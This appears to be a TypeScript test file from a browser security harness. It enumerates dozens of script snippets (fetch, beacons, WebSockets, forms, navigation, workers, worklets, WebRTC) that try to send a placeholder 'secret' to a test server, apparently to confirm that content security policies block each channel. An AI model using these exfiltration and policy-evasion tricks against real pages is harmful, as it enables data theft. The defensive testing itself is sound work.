import { attemptsOf, type Way } from "../page/way.ts";

/** Whatever a script makes a browser connect by. The server that is tried must never hear of it. */

const connecting: readonly Way[] = [
  { id: "fetch", by: "connect-src", text: 'return fetch("http://" + to.http + "/").then(() => "reached")' },
  { id: "fetch by TLS", by: "connect-src", text: 'return fetch("https://" + to.http + "/").then(() => "reached")' },
  {
    id: "fetch that wants no answer",
    by: "connect-src",
    text: 'return fetch("http://" + to.http + "/", { mode: "no-cors" }).then(() => "reached")',
  },
  {
    id: "fetch that outlives its page",
    by: "connect-src",
    text: 'return fetch("http://" + to.http + "/", { keepalive: true, method: "POST", body: "secret" }).then(() => "reached")',
  },
  {
    id: "fetch with a body that streams",
    by: "connect-src",
    text: 'return fetch("http://" + to.http + "/", { method: "POST", duplex: "half", mode: "no-cors", body: new Blob(["secret"]) }).then(() => "reached")',
  },
  {
    id: "fetch of this machine's number, spelled otherwise",
    by: "connect-src",
    text: 'const [number, port] = to.http.split(":"); return fetch("http://" + number.split(".").reduce((sum, part) => sum * 256 + Number(part), 0) + ":" + port + "/").then(() => "reached")',
  },
  {
    id: "XMLHttpRequest",
    by: "connect-src",
    text: `return new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve("reached");
      request.onerror = () => reject(new Error("not sent"));
      request.open("GET", "http://" + to.http + "/");
      request.send();
    })`,
  },
  {
    id: "XMLHttpRequest that the page waits for",
    text: 'const request = new XMLHttpRequest(); request.open("GET", "http://" + to.http + "/", false); request.send(); return "reached"',
  },
  { id: "beacon", by: "connect-src", blind: true, text: 'navigator.sendBeacon("http://" + to.http + "/", "secret")' },
  {
    id: "fetchLater",
    blind: true,
    text: 'need(globalThis.fetchLater, "fetchLater")("https://" + to.http + "/", { activateAfter: 0 })',
  },
  {
    id: "WebSocket",
    by: "connect-src",
    text: `return new Promise((resolve, reject) => {
      const socket = new WebSocket("ws://" + to.http + "/");
      socket.onopen = () => resolve("reached");
      socket.onerror = () => reject(new Error("not opened"));
    })`,
  },
  {
    id: "WebSocketStream",
    by: "connect-src",
    text: 'return new (need(globalThis.WebSocketStream, "WebSocketStream"))("ws://" + to.http + "/").opened.then(() => "reached")',
  },
  {
    id: "EventSource",
    by: "connect-src",
    text: `return new Promise((resolve, reject) => {
      const source = new EventSource("http://" + to.http + "/");
      source.onopen = () => { source.close(); resolve("reached"); };
      source.onerror = () => { source.close(); reject(new Error("not opened")); };
    })`,
  },
  {
    id: "WebTransport",
    by: "connect-src",
    text: 'return new WebTransport("https://" + to.udp + "/").ready.then(() => "reached")',
  },
  {
    id: "ping of a link",
    by: "connect-src",
    blind: true,
    text: 'clicked(element("a", { href: "#here", ping: "http://" + to.http + "/" }))',
  },
];

const leaving: readonly Way[] = [
  ...["get", "post"].map((method) => ({
    id: `form by ${method}`,
    blind: true as const,
    text: `const form = element("form", { action: "http://" + to.http + "/", method: "${method}" }); form.append(element("input", { name: "x", value: "secret" })); document.body.append(form); form.submit()`,
  })),
  {
    id: "form by a button's own address",
    blind: true,
    text: 'const form = element("form"); const button = element("button", { formaction: "http://" + to.http + "/" }); form.append(button); document.body.append(form); button.click()',
  },
  { id: "location", blind: true, text: 'location.href = "http://" + to.http + "/?secret"' },
  { id: "location in place of this one", blind: true, text: 'location.replace("http://" + to.http + "/?secret")' },
  { id: "link", blind: true, text: 'clicked(element("a", { href: "http://" + to.http + "/?secret" }))' },
  { id: "link of an area", blind: true, text: 'clicked(element("area", { href: "http://" + to.http + "/?secret" }))' },
  {
    id: "refresh",
    blind: true,
    text: 'document.head.append(element("meta", { "http-equiv": "refresh", content: "0;url=http://" + to.http + "/" }))',
  },
  {
    id: "link after the base was moved",
    blind: true,
    text: 'document.head.prepend(element("base", { href: "http://" + to.http + "/" })); clicked(element("a", { href: "elsewhere" }))',
  },
  { id: "navigation API", blind: true, text: 'navigation.navigate("http://" + to.http + "/?secret")' },
];

const inWorkers: readonly Way[] = [
  ...["fetch", "no-cors fetch", "socket", "events", "import", "module"].map((way) => ({
    id: `${way} of a worker`,
    text: `return worker("${way}", to)`,
  })),
  {
    id: "fetch of a shared worker",
    text: 'return worker("fetch", to, new SharedWorker("worker.js"))',
  },
  {
    id: "worker from elsewhere",
    blind: true,
    text: 'new Worker("http://" + to.http + "/x.js")',
    control: { none: "no page may, whatever its policy" },
  },
  {
    id: "module worker that imports from elsewhere",
    text: 'return worker("module", to, new Worker("worker.js", { type: "module" }))',
  },
  {
    id: "worklet of paint from elsewhere",
    text: 'return need(CSS.paintWorklet, "paint worklets").addModule("http://" + to.http + "/x.js").then(() => "loaded")',
  },
  {
    id: "worklet of sound from elsewhere",
    text: 'return new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule("http://" + to.http + "/x.js").then(() => "loaded")',
  },
];

const peers: readonly Way[] = ["stun:UDP", "turn:UDP?transport=udp", "turn:HTTP?transport=tcp"].flatMap((urls) =>
  ["page", "blank frame"].map((where) => ({
    id: `WebRTC of a ${where} by ${urls.replace(/:.*\?/, " ").replace(/:.*/, " udp")}`,
    blind: true as const,
    wait: 1500,
    text: `const scope = ${where === "page" ? "globalThis" : 'document.body.appendChild(element("iframe")).contentWindow'};
      const urls = "${urls}".replace("UDP", to.udp).replace("HTTP", to.http);
      const connection = new (need(scope.RTCPeerConnection, "WebRTC"))({ iceServers: [{ urls, username: "secret", credential: "data" }] });
      connection.createDataChannel("out");
      await connection.setLocalDescription(await connection.createOffer());
      await new Promise((later) => setTimeout(later, 1000))`,
  })),
);

export const network = attemptsOf("network", [...connecting, ...leaving, ...inWorkers]);

/** Apart from the others: Chromium may end a page that tries them. */
export const peerConnections = attemptsOf("network", peers);
